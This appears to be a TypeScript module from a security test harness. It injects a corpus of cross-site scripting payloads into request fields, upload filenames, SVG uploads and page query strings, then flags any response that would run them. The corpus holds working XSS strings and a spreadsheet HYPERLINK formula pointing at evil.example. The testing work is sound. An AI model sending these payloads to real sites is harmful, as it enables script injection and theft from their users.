// Script injection through every text field and file: each field of each declared endpoint gets a corpus, and so does
// each upload. No answer may contain anything that a browser would run: an answer is JSON that is never sniffed, a page
// contains none of it, and a picture is re-encoded or refused.

import type { Endpoint } from '@magpie/wire'
import { type Answer, headersOf, type Person, type Target } from './target.ts'
import type { Finding } from './use-tokens.ts'

/** The marker by which an injection is found again, whatever was done to the text around it. */
const word = 'mgpxss'
const corpus = [
  `<script>${word}()</script>`,
  `"><img src=x onerror=${word}()>`,
  `'"--></style></script><svg/onload=${word}()>`,
  `javascript:${word}()`,
  `<a href="jav&#x0A;ascript:${word}()">x</a>`,
  `{{constructor.constructor('${word}()')()}}`,
  `<math><mtext></p><style><!--</style><img src=x onerror=${word}()>`,
  `\u2028<iframe srcdoc="<script>${word}()</script>">`,
  `%3Cscript%3E${word}()%3C/script%3E`,
  `=HYPERLINK("https://evil.example?${word}")`,
]
const alive = [/<script>mgpxss/i, /onerror=mgpxss/i, /onload=mgpxss/i, /srcdoc="<script/i]

export type Asked = { readonly endpoint: Endpoint; readonly ask: Readonly<Record<string, unknown>> }

/** The good request once for each of its texts, with that one replaced. */
const withText = (ask: Readonly<Record<string, unknown>>, text: string): readonly object[] =>
  Object.entries(ask).flatMap(([key, value]) => {
    if (typeof value === 'string') return [{ ...ask, [key]: text }]
    if (typeof value === 'object' && value !== null && !Array.isArray(value))
      return withText(value as Readonly<Record<string, unknown>>, text).map((inner) => ({ ...ask, [key]: inner }))
    return []
  })

const isRun = (text: string, type: string, nosniff: boolean): boolean =>
  !(type.includes('json') && nosniff) && alive.some((one) => one.test(text))

export const writeScripts = async (
  target: Target,
  asks: readonly Asked[],
  pages: readonly string[],
  { texts = corpus.length, by = 8 }: { readonly texts?: number; readonly by?: number } = {},
): Promise<{ readonly sent: number; readonly findings: readonly Finding[] }> => {
  const attack = 'scripts'
  const found: Finding[] = []
  const people: Person[] = []
  for (let nth = 0; nth < by; nth++) people.push(await target.member())
  let sent = 0
  const judge = (what: string, { headers, text }: { headers: Answer['headers']; text: string }): void => {
    const { 'content-type': type = '' } = headers
    if (isRun(text, type, headers['x-content-type-options'] === 'nosniff')) found.push({ attack, what })
  }
  for (const { endpoint, ask } of asks) {
    for (const text of corpus.slice(0, texts)) {
      const person = people[sent % people.length] as Person
      if (endpoint.upload === undefined)
        for (const body of withText(ask, text)) {
          sent += 1
          judge(`${endpoint.path} with ${text}`, await target.ask(person, endpoint, body))
        }
      else {
        sent += 1
        const headers = {
          ...headersOf(target.siteKey, person, endpoint.path),
          'content-type': endpoint.upload[0] ?? 'image/png',
          'content-disposition': `attachment; filename="${encodeURIComponent(text)}.svg"`,
        }
        const payload = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${word}()">${text}</svg>`)
        const heard = await target.send({ method: 'POST', path: endpoint.path, payload, from: person.from, headers })
        judge(`a file to ${endpoint.path}`, heard)
        if (heard.code === 6000) found.push({ attack, what: `${endpoint.path} took a drawing with a script` })
      }
    }
  }
  for (const page of pages) {
    const asked = `${page}?q=${encodeURIComponent(corpus[0] ?? '')}&from=${encodeURIComponent(corpus[1] ?? '')}`
    for (const path of [page, asked, `${page}/${encodeURIComponent(corpus[2] ?? '')}`])
      judge(`the page ${path}`, await target.send({ method: 'GET', path, from: 1, headers: { accept: 'text/html' } }))
  }
  return { sent, findings: found }
}
